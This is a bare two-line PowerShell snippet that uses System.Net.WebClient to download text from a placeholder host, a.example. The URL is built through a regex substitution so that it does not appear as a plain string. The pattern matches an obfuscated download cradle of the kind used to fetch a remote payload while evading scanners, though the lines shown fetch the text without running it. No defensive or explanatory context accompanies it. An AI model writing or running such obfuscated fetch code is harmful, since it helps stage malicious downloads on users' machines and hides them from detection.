$wc = New-Object System.Net.WebClient
$wc.DownloadString((('a.example=http' -replace '(.+)=(\w+)','$2://$1') + '/p/x.txt'))
